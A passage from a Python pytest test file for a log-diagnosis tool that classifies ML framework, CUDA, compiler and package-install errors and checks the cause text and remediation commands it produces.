            "      CMake must be installed to build the following extensions: dlib\n      [end of output]\n  ERROR: Failed building wheel for dlib\n",
            "cmake is not installed",
        ),
        # pip's legacy install names the package after its arrow
        (
            "  error: legacy-install-failure\n\n  × Encountered error while trying to install package.\n  ╰─> mmcv-full\n",
            "mmcv-full",
        ),
    ],
)
def test_a_build_that_lacks_its_tools_says_which(log: str, word: str) -> None:
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.family == "build-failure", diagnosis
    rendered = diagnosis.cause + " ".join(diagnosis.next)
    assert word in rendered, rendered
    if word == "C++ Build Tools":
        assert not any("apt" in step for step in diagnosis.remediation), diagnosis.remediation


def test_torchs_own_host_compiler_check_names_the_compiler_to_install() -> None:
    log = tb(
        "RuntimeError: The current installed version of g++ (12.2.1) is greater than the maximum required version by "
        "CUDA 11.7 (11.5.0). Please make sure to use an adequate version of g++ (>=6.0.0, <=11.5.0).",
        "torch/utils/cpp_extension",
    )
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.decided_by == "build-failure:host_compiler", diagnosis
    assert "g++ 12.2.1, newer than CUDA 11.7's nvcc supports (up to 11.5.0)" in diagnosis.cause
    assert "CXX=g++-11" in diagnosis.cause


@pytest.mark.parametrize(
    ("log", "only_cpu"),
    [
        (">>> import jax\n>>> jax.devices()\n[CpuDevice(id=0)]\n", True),
        (">>> import jax\n>>> jax.default_backend()\n'cpu'\n", True),
        # a GPU listed: nothing to say
        (">>> import jax\n>>> jax.devices()\n[CudaDevice(id=0)]\n", False),
        # said to show where a failure that follows runs (a CPU by choice): that failure is the record
        (
            ">>> jax.devices()\n[CpuDevice(id=0)]\n>>> f(x)\nTraceback (most recent call last):\n"
            '  File "/venv/lib/python3.11/site-packages/jax/_src/lax/lax.py", line 2000, in dot_general\n'
            "    raise TypeError(msg)\nTypeError: dot_general requires contracting dimensions to have the same shape\n",
            False,
        ),
        # on a Mac JAX runs on its CPU unless jax-metal is there: no CUDA plugin to miss
        (">>> jax.devices()  # on macOS 14, Apple M2\n[CpuDevice(id=0)]\n", False),
    ],
)
def test_jax_asked_for_its_devices_and_answering_the_cpu_alone_is_read(log: str, only_cpu: bool) -> None:
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    read = diagnosis is not None and diagnosis.decided_by == "accelerator-unavailable:asked_and_no_gpu"
    assert read == only_cpu, diagnosis
    if only_cpu:
        assert diagnosis is not None and "jax[cuda12]" in diagnosis.cause and "JAX_PLATFORMS=cuda" in diagnosis.cause


@pytest.mark.parametrize(("package", "distribution"), [("einops", "einops"), ("flash_attn", "flash-attn")])
def test_a_remote_codes_missing_package_is_named_without_the_sentences_full_stop(
    package: str, distribution: str
) -> None:
    log = tb(
        "ImportError: This modeling file requires the following packages that were not found in your environment: "
        f"{package}. Run `pip install {package}`",
        "transformers/dynamic_module_utils",
    )
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.params.get("package") == distribution, diagnosis
    assert f"{package}." not in " ".join(diagnosis.remediation), diagnosis.remediation


_SPAN_WARNING = (
    "/venv/lib/python3.12/site-packages/torch/cuda/__init__.py:283: UserWarning:\n"
    "    Found GPU0 {gpu} which is of cuda capability {have}.\n"
    "    Minimum and Maximum cuda capability supported by this version of PyTorch is\n"
    "    ({low}) - ({high})\n\n  warnings.warn(\n"
)


@pytest.mark.parametrize(
    ("gpu", "have", "span", "said"),
    [
        (
            "NVIDIA GeForce GTX 1070",
            "6.1",
            ("7.0", "12.0"),
            "older than the oldest this torch build has code for (7.0)",
        ),
        (
            "NVIDIA GeForce RTX 5090",
            "12.0",
            ("5.0", "9.0"),
            "newer than the newest this torch build has code for (9.0)",
        ),
        # a newer minor of the newest major: the build's code runs on it, the warning is no failure
        ("NVIDIA GB10", "12.1", ("8.0", "12.0"), ""),
    ],
)
def test_torchs_span_of_capabilities_decides_only_outside_its_major(
    gpu: str, have: str, span: tuple[str, str], said: str
) -> None:
    log = _SPAN_WARNING.format(gpu=gpu, have=have, low=span[0], high=span[1])
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    if said:
        assert diagnosis is not None and diagnosis.decided_by == "gpu-arch-unsupported:gpu_too_old", diagnosis
        assert said in diagnosis.cause, diagnosis.cause
    else:
        assert diagnosis is None or diagnosis.family != "gpu-arch-unsupported", diagnosis


def test_the_cuda_builds_torch_names_for_an_old_gpu_are_the_wheels_to_install() -> None:
    log = _SPAN_WARNING.format(gpu="NVIDIA GeForce GTX 1070", have="6.1", low="7.0", high="12.0") + (
        "/venv/lib/python3.12/site-packages/torch/cuda/__init__.py:304: UserWarning:\n"
        "    Please install PyTorch with a following CUDA\n    configurations:  12.6 following instructions at\n"
        "    https://pytorch.org/get-started/locally/\n"
    )
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and "the cu126 wheels (download.pytorch.org/whl/cu126)" in diagnosis.cause


def test_a_rank_waiting_on_the_monitor_names_the_monitor_as_the_one_to_read() -> None:
    log = (
        "[E ProcessGroupGloo.cpp:138] Rank 1 successfully reached monitoredBarrier, but received errors while waiting "
        "for send/recv from rank 0. Please check rank 0 logs for faulty rank.\n"
    )
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.decided_by == "hang-timeout:ranks_missed_the_monitored_barrier"
    # rank 0 detected the failure: the rank it names in its own log is the culprit, not rank 0
    assert "rank" not in diagnosis.params and diagnosis.params.get("monitor") == "0"
    assert "which rank 0's own log names" in diagnosis.cause


@pytest.mark.parametrize(
    ("path", "package"),
    [
        ("/opt/homebrew/lib/python3.11/site-packages/tensorflow-plugins/libmetal_plugin.dylib", "tensorflow-metal"),
        ("/venv/lib/python3.11/site-packages/torchaudio/lib/libtorchaudio.so", "torchaudio"),
        # a compiled module of its own at site-packages' top, by its distribution's layout
        ("/venv/lib/python3.11/site-packages/flash_attn_2_cuda.cpython-311-darwin.so", "flash-attn"),
    ],
)
def test_macos_names_the_extension_it_was_loading_when_a_symbol_is_missing(path: str, package: str) -> None:
    log = (
        f"ImportError: dlopen({path}, 0x0006): symbol not found in flat namespace "
        "'__ZN3tsl8internal10LogMessageC1EPKcii'\n"
    )
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.decided_by == "undefined-symbol:procedure_not_found", diagnosis
    assert diagnosis.params.get("package") == package
    assert package in diagnosis.cause


def test_a_gpu_without_bfloat16_is_not_sent_to_rebuild_the_library_that_asked() -> None:
    log = tb(
        "ValueError: Your setup doesn't support bf16/gpu. You need torch>=1.10, using Ampere GPU with cuda>=11.0",
        "transformers/training_args",
    )
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is None or "build it from source" not in diagnosis.cause, diagnosis


@pytest.mark.parametrize(
    ("line", "said", "to_install"),
    [
        # torch's newer words: an exclusive bound, the compiler as found on the system
        (
            "The current installed version of x86_64-linux-gnu-g++ (15.2.0) is greater than the maximum required version by CUDA 12.4. Please make sure to use an adequate version of x86_64-linux-gnu-g++ (>=6.0.0, <14.0).",
            "CUDA 12.4's nvcc supports (below 14.0)",
            "CXX=g++-13",
        ),
        (
            "The current installed version of clang++ (19.1.0) is greater than the maximum required version by CUDA 12.4. Please make sure to use an adequate version of clang++ (>=3.3.0, <18.0).",
            "clang++ 19.1.0, newer than CUDA 12.4's",
            "Install clang 17",
        ),
    ],
)
def test_torchs_host_compiler_check_is_read_in_each_releases_words(line: str, said: str, to_install: str) -> None:
    diagnosis = explain_stream(
        "x.log", io.BytesIO(tb("RuntimeError: " + line, "torch/utils/cpp_extension").encode()), None
    ).diagnosis
    assert diagnosis is not None and diagnosis.decided_by == "build-failure:host_compiler", diagnosis
    assert said in diagnosis.cause and to_install in diagnosis.cause, diagnosis.cause


@pytest.mark.parametrize(
    ("log", "fix", "absent"),
    [
        # the command's own /usr/bin path is no sign of Linux: a Mac's clang lives there too
        (
            "      error: command '/usr/bin/clang' failed: No such file or directory\n      /Users/me/venv/lib/python3.11/site-packages\n",
            "xcode-select --install",
            "apt",
        ),
        ("      error: command 'x86_64-linux-gnu-gcc' failed: No such file or directory\n", "build-essential", "xcode"),
        # nothing says which system: no system's command is given
        ("      error: command 'gcc' failed: No such file or directory\n", "", "apt"),
    ],
)
def test_a_missing_compiler_is_installed_the_way_of_the_system_the_log_shows(log: str, fix: str, absent: str) -> None:
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.decided_by == "build-failure:compiler_not_installed", diagnosis
    steps = " ".join(diagnosis.remediation)
    assert (fix in steps) if fix else not steps, steps
    assert absent not in steps


def test_cmake_without_nvcc_on_windows_gives_windows_commands() -> None:
    log = "      CMake Error: No CMAKE_CUDA_COMPILER could be found.\n      C:\\Users\\me\\llama-cpp-python\\build\n"
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.next == ("where nvcc & echo %CUDA_PATH%  # cmd",), diagnosis.next
    assert "CUDA_PATH" in diagnosis.cause and "/usr/local/cuda" not in diagnosis.cause


def test_nvcc_saying_its_compiler_was_killed_is_read_as_memory_for_the_parallel_jobs() -> None:
    log = "      nvcc error   : 'cicc' died due to signal 9 (Kill signal)\n      ninja: build stopped: subcommand failed.\n"
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.decided_by == "build-failure:compiler_killed_for_memory", diagnosis
    assert "(cicc)" in diagnosis.cause and diagnosis.params.get("variable") == "MAX_JOBS"


@pytest.mark.parametrize(
    ("line", "said", "command"),
    [
        # the folder runs to the words, spaces and all, when the exception's type is before it
        (
            "OSError: /content/drive/My Drive/models/llama-7b does not appear to have a file named config.json.",
            "/content/drive/My Drive/models/llama-7b, has no config.json",
            "ls -la -- '/content/drive/My Drive/models/llama-7b'",
        ),
        # from_pretrained("."): the sentence's full stop is taken once, the folder's own dots stay
        (
            "OSError: Error no file named diffusion_pytorch_model.bin found in directory ..",
            "The folder given as the model, ., has no",
            "ls -la -- .",
        ),
        # ~ is a shell's, not Python's: said, and left to the shell in the command
        (
            "OSError: ~/models/llama is not a local folder and is not a valid model identifier listed on 'https://huggingface.co/models'",
            "Python does not expand ~",
            'ls -la -- "$HOME"/models/llama',
        ),
    ],
)
def test_a_model_folder_is_quoted_whole_and_listed_as_a_shell_would(line: str, said: str, command: str) -> None:
    diagnosis = explain_stream("x.log", io.BytesIO(tb(line, "transformers/utils/hub").encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.family == "user-code-error", diagnosis
    assert said in diagnosis.cause, diagnosis.cause
    assert any(step.startswith(command) for step in diagnosis.next), diagnosis.next


def test_a_training_scripts_column_option_against_the_datasets_columns_is_the_users() -> None:
    log = tb("ValueError: --caption_column' value 'text' needs to be one of: image, label")
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.decided_by == "user-code-error:dataset_column_absent", diagnosis
    assert diagnosis.verdict == "not-environment" and "--caption_column" in diagnosis.cause
    assert "(its columns: image, label)" in diagnosis.cause


def test_lldbs_stop_on_a_bad_access_is_a_crash_named_with_the_frame_it_stopped_in() -> None:
    log = (
        "Process 16004 stopped\n* thread #3, stop reason = EXC_BAD_ACCESS (code=1, address=0x8)\n"
        "    frame #0: 0x0000000106438cf0 libomp.dylib`__kmp_suspend_64 + 48\n"
        "libomp.dylib`__kmp_suspend_64:\n->  0x106438cf0 <+48>: ldr    x19, [x8, w0, sxtw #3]\n"
    )
    diagnosis = explain_stream("x.log", io.BytesIO(log.encode()), None).diagnosis
    assert diagnosis is not None and diagnosis.decided_by == "framework-internal-error:segfault", diagnosis
    assert "It stopped in __kmp_suspend_64 of libomp.dylib." in diagnosis.cause


@pytest.mark.parametrize(
    ("line", "family", "word"),
    [
        (
            "ImportError: cannot import name '_C' from 'groundingdino' (/home/me/GroundingDINO/groundingdino/__init__.py)",
            "module-not-found",
            "groundingdino._C",
        ),
        (
            "ImportError: cannot import name 'csrc' from 'nerfacc' (/opt/venv/lib/python3.11/site-packages/nerfacc/__init__.py)",
            "module-not-found",
            "nerfacc.csrc",
        ),
        (
            "ImportError: cannot import name '_C' from 'torch' (/home/me/pytorch/torch/__init__.py)",
            "module-not-found",
            "torch source folder",
        ),
        (
            "ImportError: cannot import name 'build_model' from 'groundingdino' (/home/me/GroundingDINO/groundingdino/__init__.py)",
            "api-version-skew",
            "groundingdino.build_model",
        ),
    ],
)
def test_a_compiled_half_a_package_lacks_is_a_build_not_an_api(line: str, family: str, word: str) -> None:
    """`from . import _C` in a package's __init__ fails as "cannot import name '_C'": the compiled extension was not
    built (or the source folder shadows the install), as "No module named 'groundingdino._C'" says; another name is
    an API of another release."""
    diagnosis = _diagnose(tb(line))
    assert diagnosis is not None and diagnosis.family == family, diagnosis
    assert word in diagnosis.cause, diagnosis.cause


def test_conda_builds_pinned_for_another_platform_are_named() -> None:
    """An exported environment file pins builds (`pytorch==2.0.1=py3.10_cuda11.8_cudnn8.7.0_0`) that exist only on
    the platform it was exported on: the build strings are the cause, not a missing package."""
    log = (
        "Solving environment: failed\n\nPackagesNotFoundError: The following packages are not available from current "
        "channels:\n\n  - pytorch-cuda==11.8=h7e8668a_5\n  - pytorch==2.0.1=py3.10_cuda11.8_cudnn8.7.0_0\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "resolver-conflict", diagnosis
    assert "build string" in diagnosis.cause and "--from-history" in diagnosis.cause
    plain = _diagnose(log.replace("==11.8=h7e8668a_5", "=11.8").replace("==2.0.1=py3.10_cuda11.8_cudnn8.7.0_0", ""))
    assert plain is not None and "build string" not in plain.cause and "pytorch-cuda=11.8" in plain.cause, plain


def test_an_extension_never_built_into_a_project_folder_is_a_build_step() -> None:
    """`cannot import name 'iou3d_nms_cuda' from 'pcdet.ops.iou3d_nms' (unknown location)`: the folder is there, the
    compiled module was never built into it; a plain name from such a folder is not read as one."""
    line = "ImportError: cannot import name '{name}' from 'pcdet.ops.iou3d_nms' (unknown location)"
    built = _diagnose(tb(line.format(name="iou3d_nms_cuda")))
    assert built is not None and built.family == "build-failure" and "setup.py develop" in built.cause, built
    plain = _diagnose(tb(line.format(name="boxes_iou3d_gpu")))
    assert plain is None or plain.family != "build-failure" or "never built" not in plain.cause, plain


def test_a_subclass_override_with_an_older_signature_is_named() -> None:
    """transformers' Trainer calling self.compute_loss(..., num_items_in_batch=...) on a subclass whose override is
    older: the subclass and the library's release are the two sides; a call of another object's method is not."""
    log = (
        TB + '  File "/opt/venv/lib/python3.11/site-packages/transformers/trainer.py", line 3579, in training_step\n'
        "    loss = {code}\n"
        "TypeError: CustomTrainer.compute_loss() got an unexpected keyword argument 'num_items_in_batch'\n"
    )
    own = _diagnose(log.format(code="self.compute_loss(model, inputs, num_items_in_batch=num_items_in_batch)"))
    assert own is not None and own.family == "api-version-skew", own
    assert "CustomTrainer is a subclass" in own.cause and "num_items_in_batch=None" in own.cause, own.cause
    other = _diagnose(log.format(code="helper.compute_loss(model, inputs, num_items_in_batch=num_items_in_batch)"))
    assert other is not None and "subclass" not in other.cause, other.cause


def test_keras_3_save_refusal_read_from_the_source_lines_a_notebook_shows() -> None:
    """A notebook's traceback cut before the exception line still shows the raise statement's first string."""
    log = (
        "----> 1 model.save('model' + '/1')\n\n"
        "File /opt/conda/lib/python3.11/site-packages/keras/src/saving/saving_api.py:114, in save_model(model, "
        "filepath, overwrite, zipped, **kwargs)\n"
        '    110 if str(filepath).endswith((".h5", ".hdf5")):\n'
        "--> 114 raise ValueError(\n"
        '    115     "Invalid filepath extension for saving. "  \n'  # trailing spaces, as pastes keep them
        '    116     "Please add either a `.keras` extension for the native Keras "\n'
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == "api-version-skew:keras_3", diagnosis


@pytest.mark.parametrize(
    ("size", "family"),
    [(58395610206619, "user-code-error"), (18446744073709551608, "user-code-error"), (34359738368, "out-of-memory")],
)
def test_an_allocation_no_computer_holds_is_a_size_from_wrong_input(size: int, family: str) -> None:
    """torch's CPU allocator asked for 53 TiB at once: a size computed from wrong data, not a shortage; 32 GiB is."""
    log = (
        "terminate called after throwing an instance of 'c10::Error'\n"
        f"  what():  [enforce fail at CPUAllocator.cpp:68] . DefaultCPUAllocator: can't allocate memory: you tried to "
        f"allocate {size} bytes. Error code 12 (Cannot allocate memory)\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family and diagnosis.verdict == "not-environment", diagnosis


def test_review_found_misreadings_stay_fixed() -> None:
    """Each of these was misread once (a second review): a framework's own base class is no override; a model's remote
    code is no package; an installed framework's folder of unknown location is an API, not an unbuilt extension; a
    conda channel prefix is a package spec; a remote cache is refused by every datasets release."""
    base = _diagnose(
        TB + '  File "/opt/venv/lib/python3.11/site-packages/transformers/models/bert/modeling_bert.py", line 200, '
        "in __init__\n"
        '    self.register_buffer("position_ids", torch.arange(512), persistent=False)\n'
        "TypeError: Module.register_buffer() got an unexpected keyword argument 'persistent'\n"
    )
    assert base is not None and "subclass" not in base.cause, base.cause
    remote = _diagnose(
        TB + '  File "/home/me/.cache/huggingface/modules/transformers_modules/THUDM/chatglm3-6b/modeling_chatglm.py", '
        "line 1100, in stream_chat\n"
        "    for outputs in self.stream_generate(**inputs, past_key_values=past_key_values, return_past_key_values=True):\n"
        "TypeError: ChatGLMForConditionalGeneration.stream_generate() got an unexpected keyword argument 'x'\n"
    )
    assert remote is None or "transformers-modules" not in remote.cause, remote.cause
    framework = _diagnose(
        tb(
            "ImportError: cannot import name 'lookup_ops' from 'tensorflow.python.ops' (unknown location)",
            "tensorflow_privacy",
        )
    )
    assert framework is not None and framework.family != "build-failure", framework
    channel = _diagnose(
        "PackagesNotFoundError: The following packages are not available from current channels:\n\n"
        "  - nvidia/label/cuda-12.1.0::cuda-toolkit\n"
    )
    assert channel is not None and "nvidia/label/cuda-12.1.0::cuda-toolkit" in channel.cause, channel.cause
    remote_cache = _diagnose("NotImplementedError: Loading a dataset cached in a S3FileSystem is not supported.\n")
    assert remote_cache is None or remote_cache.decided_by != "catalogue:datasets-older-than-fsspec", remote_cache


def test_unsloth_s_long_token_list_is_read() -> None:
    ids = ", ".join(str(128002 + i) for i in range(20))
    diagnosis = _diagnose(
        f"ValueError: Unsloth: Untrained tokens of [[{ids}]] found, but embed_tokens & lm_head not trainable, causing NaNs.\n"
    )
    assert diagnosis is not None and diagnosis.decided_by == "catalogue:unsloth-untrained-tokens", diagnosis


def test_an_installer_s_failure_asks_for_the_installer_s_output() -> None:
    """What to run next for a solver's or a build's failure is the installer's own output, not a crash's stack."""
    log = (
        "Solving environment: failed\n\nUnsatisfiableError: The following specifications were found to be "
        "incompatible with each other:\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and any("pip check" in step for step in diagnosis.next), diagnosis.next
    assert not any("faulthandler" in step for step in diagnosis.next), diagnosis.next


@pytest.mark.parametrize(
    ("command", "variable", "words"),
    [
        ("$ ROCR_VISIBLE_DEVICES=1 CUDA_VISIBLE_DEVICES=1 python train.py", "CUDA_VISIBLE_DEVICES", "indexes the GPUs"),
        ("export CUDA_VISIBLE_DEVICES=GPU_IDS", "CUDA_VISIBLE_DEVICES", "hides every GPU"),
        ("CUDA_VISIBLE_DEVICES=3 python train.py", "CUDA_VISIBLE_DEVICES", "renumbered from 0"),
    ],
)
def test_a_gpu_visibility_the_log_sets_is_the_first_cause_of_no_gpu(command: str, variable: str, words: str) -> None:
    """The log's own command line chose the GPUs the process sees, and it saw none: the setting is the cause to
    check first; the same variable named in prose ("set it to ...") is not read as set."""
    failure = tb("RuntimeError: No HIP GPUs are available", "torch/cuda")
    diagnosis = _diagnose(command + "\n" + failure)
    assert diagnosis is not None and diagnosis.family == "bad-configuration", diagnosis
    assert diagnosis.params.get("variable") == variable and words in diagnosis.cause, diagnosis.cause
    prose = _diagnose("Hint: set CUDA_VISIBLE_DEVICES=0 to pick a GPU\n" + failure)
    assert prose is not None and prose.family == "accelerator-unavailable", prose


@pytest.mark.parametrize(
    ("line", "read"),
    [
        ("(base) me@host:~/run$ CUDA_VISIBLE_DEVICES=5 python t.py", True),
        ("C:\\work>set HIP_VISIBLE_DEVICES=-1", True),
        ("root@abc:/# export HIP_VISIBLE_DEVICES=", True),
        ("# CUDA_VISIBLE_DEVICES=0 python train.py", False),  # a comment in a pasted script
    ],
)
def test_visibility_set_after_a_prompt_is_read_and_a_comment_is_not(line: str, read: bool) -> None:
    diagnosis = _diagnose(line + "\n" + tb("RuntimeError: No HIP GPUs are available", "torch/cuda"))
    assert diagnosis is not None and (diagnosis.decided_by == "bad-configuration:log_sets_visible_devices") == read


def test_a_visibility_set_after_the_failure_is_a_later_try_not_the_cause() -> None:
    log = tb("RuntimeError: No HIP GPUs are available", "torch/cuda") + "$ CUDA_VISIBLE_DEVICES=0 python t.py\nworks\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by != "bad-configuration:log_sets_visible_devices", diagnosis


def test_faulthandler_s_bus_error_is_shared_memory_first() -> None:
    diagnosis = _diagnose(
        'Fatal Python error: Bus error\n\nThread 0x00007f50e814d000 (most recent call first):\n  File "/opt/jax/jax/_src/interpreters/pxla.py", line 1158 in __call__\n'
    )
    assert diagnosis is not None and diagnosis.family == "nccl-shm" and "/dev/shm" in diagnosis.cause, diagnosis


@pytest.mark.parametrize(
    "said",
    ["找不到指定的程序。", "指定されたプロシージャが見つかりません。", "Die angegebene Prozedur wurde nicht gefunden."],
)
def test_windows_missing_procedure_in_another_language_is_a_build_for_another_torch(said: str) -> None:
    diagnosis = _diagnose(f"ImportError: DLL load failed while importing exllamav2_ext: {said}\n")
    assert diagnosis is not None and diagnosis.family == "undefined-symbol", diagnosis


def test_an_undefined_symbol_without_its_colon_is_read_and_prose_is_not() -> None:
    bare = _diagnose("undefined symbol ncclCommRegister\n")
    assert bare is not None and bare.family == "cuda-library-mismatch" and "NCCL" in bare.cause, bare
    prose = _diagnose("Got an undefined symbol error when importing\n")
    assert prose is None or not prose.decided_by.startswith("undefined-symbol:"), prose


@pytest.mark.parametrize(
    "prefix",
    [
        "F0000 00:00:1703077828.811772  117876 pjrt_future.h:229] ",  # absl's form before InitializeLog
        "F1220 13:10:28.811772  117876 pjrt_future.h:229] ",  # glog's and absl's usual form
        "[rank1]: F1220 13:10:28.811772  117876 pjrt_future.h:229] ",  # behind a rank's tag
    ],
)
def test_a_native_checks_source_file_survives_absls_prefix(prefix: str) -> None:
    # the file that holds the check is what a search of the tracker or a report names (pytorch/xla#6225)
    log = f"{prefix}Check failed: IsValid() \n*** Check failure stack trace: ***\n    @  0x7f3b  xla::PjRtFuture<>::OnReady()\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == "framework-internal-error:native_abort", diagnosis
    assert "at pjrt_future.h:229 (" in diagnosis.cause and diagnosis.params["source"] == "pjrt_future.h:229"


def test_a_later_line_of_an_absl_region_does_not_take_the_first_lines_source() -> None:
    log = (
        "F1220 13:10:28.811772  117876 cuda_driver.cc:12] Failed to load libcuda\n"
        "terminate called after throwing an instance of 'std::runtime_error'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is None or "cuda_driver.cc" not in diagnosis.cause, diagnosis


_IMPROVABLE = "  (Could this error message be improved?  If so, please report an enhancement request to PyTorch.)"


@pytest.mark.parametrize(
    ("log", "family"),
    [
        # torch 2.0's own FlashAttention backward, which its dispatcher chose on an RTX 30/40 (pytorch/pytorch#98140)
        (f"RuntimeError: Expected is_sm80 to be true, but got false.{_IMPROVABLE}\n", "framework-internal-error"),
        (
            tb(f"RuntimeError: Expected is_sm80 || is_sm90 to be true, but got false.{_IMPROVABLE}", "torch/nn"),
            "framework-internal-error",
        ),
        # the flash-attn package's check, and any check that lists an older generation: the GPU's generation
        (
            tb(f"RuntimeError: Expected is_sm80 to be true, but got false.{_IMPROVABLE}", "flash_attn"),
            "gpu-arch-unsupported",
        ),
        (
            f"RuntimeError: Expected is_sm8x || is_sm75 to be true, but got false.{_IMPROVABLE}\n",
            "gpu-arch-unsupported",
        ),
    ],
    ids=["bare-sm80", "sm80-or-sm90-in-torch", "sm80-in-flash-attn", "sm8x-or-sm75"],
)
def test_torch_2_0s_bare_sm80_check_is_its_kernel_choice_not_the_gpu(log: str, family: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family, diagnosis
    if family == "framework-internal-error":
        assert "enable_flash_sdp(False)" in diagnosis.cause and diagnosis.verdict == "framework-bug"


def test_xformers_own_kernel_given_a_bias_is_not_torchs_mask_reading() -> None:
    log = tb("RuntimeError: (*bias): last dimension must be contiguous", "xformers")
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "framework-internal-error:attention_mask_not_contiguous"


def test_a_newer_comfyui_module_outside_comfyui_is_no_comfyui_reading() -> None:
    diagnosis = _diagnose(tb("ModuleNotFoundError: No module named 'node_helpers'"))
    assert diagnosis is None or diagnosis.decided_by != "api-version-skew:comfyui_module_of_a_newer_release"


def test_bmms_second_batch_of_another_size_is_the_codes_shapes() -> None:
    log = tb("RuntimeError: Expected size for first two dimensions of batch2 tensor to be: [1, 768] but got: [2, 768].")
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "user-code-error", diagnosis


@pytest.mark.parametrize(
    ("said", "need"),
    [
        ("RuntimeError: Dynamo is not supported on Python 3.12+", "3.12 needs 2.4"),
        ("RuntimeError: torch.compile is not supported on Python 3.13+", "3.13 needs 2.6"),
        # a reporter's prose around it (kyutai-labs/moshi#156)
        ("it returned such error saying that Dynamo not supported on Python 3.12+.", "3.12 needs 2.4"),
    ],
)
def test_torch_compile_refusing_a_newer_python_is_a_torch_older_than_the_python(said: str, need: str) -> None:
    # a pair of releases that do not go together (the torch and the Python), not a gap of either
    diagnosis = _diagnose(tb(said, "torch") if said.startswith("Runtime") else said + "\n")
    assert diagnosis is not None and diagnosis.family == "version-mismatch" and need in diagnosis.cause, diagnosis
    assert diagnosis.verdict == "environment"


@pytest.mark.parametrize(
    "said",
    ["peer access is not supported between two devices", "peer access is not supported between these two device"],
)
def test_peer_access_refused_outside_nccl_is_what_needs_it(said: str) -> None:
    # TensorRT-LLM's custom all-reduce on two A30s, NanoFlow on RTX 3090s: P2P the GPUs do not have
    diagnosis = _diagnose(said + "\n")
    assert diagnosis is not None and diagnosis.family == "bad-configuration", diagnosis
    assert "use_custom_all_reduce" in diagnosis.cause and "NCCL_P2P_DISABLE" in diagnosis.cause


@pytest.mark.parametrize(
    "log",
    [
        # an error line's file is where its message was written, and the error it carries is another record
        "E0000 00:00:1712345678.123456 4567 py_client.cc:212] Running the Python callback failed:\n"
        "RuntimeError: Check failed: buffer->IsValid()\n",
        # a file's bare name is no owner ("latency" holds "aten", "triton_fusion_emitter" is XLA's)
        "F0000 00:00:1712345678.123456 4567 latency_hiding_scheduler.cc:2141] Check failed: it != nodes_.end()\n",
    ],
    ids=["error-line-carries-another", "file-name-is-no-owner"],
)
def test_an_absl_source_is_a_fatal_lines_own_and_names_no_owner(log: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None
    assert "py_client.cc" not in diagnosis.cause and "PyTorch" not in diagnosis.cause, diagnosis.cause


def test_dataparallel_the_code_asked_for_is_its_own_mistake() -> None:
    log = tb("AttributeError: 'DataParallel' object has no attribute 'classifier'", "torch")
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "user-code-error", diagnosis
    assert "model.module.classifier" in diagnosis.cause


@pytest.mark.parametrize(
    ("log", "family", "word"),
    [
        (
            'Traceback (most recent call last):\n  File "/home/me/train.py", line 40, in <module>\n'
            "    loss.backward()\nRuntimeError: cudnn RNN backward can only be called in training mode\n",
            "user-code-error",
            "model.train()",
        ),
        (
            tb("RuntimeError: cudnn RNN backward can only be called in training mode", "captum"),
            "unsupported-op",
            "cudnn.enabled = False",
        ),
        ("RuntimeError: cudnn RNN backward can only be called in training mode\n", "unsupported-op", "model.train()"),
    ],
    ids=["training-step-left-in-eval", "attribution", "bare"],
)
def test_cudnns_rnn_backward_in_eval_mode_names_whose_eval_mode(log: str, family: str, word: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family and word in diagnosis.cause, diagnosis


def test_symbolic_sizes_outside_torch_compile_do_not_name_torch_compile() -> None:
    log = tb("RuntimeError: Cannot call sizes() on tensor with symbolic sizes/strides", "torch/nn")
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "framework-internal-error", diagnosis
    assert "dynamic=False" not in diagnosis.cause and "nested" in diagnosis.cause


def test_bmms_batch_check_keeps_its_sizes_in_the_cause() -> None:
    log = tb("RuntimeError: Expected size for first two dimensions of batch2 tensor to be: [16, 64] but got: [8, 64].")
    diagnosis = _diagnose(log)
    assert diagnosis is not None and "but got: [8, 64]" in diagnosis.cause, diagnosis


def test_jaxs_own_array_of_no_jax_type_is_not_the_codes_value() -> None:
    log = "TypeError: Value Array(1., dtype=float32) with type <class 'jaxlib.xla_extension.ArrayImpl'> is not a valid JAX type\n"
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "user-code-error:more_shapes", diagnosis


@pytest.mark.parametrize(
    ("log", "family", "word"),
    [
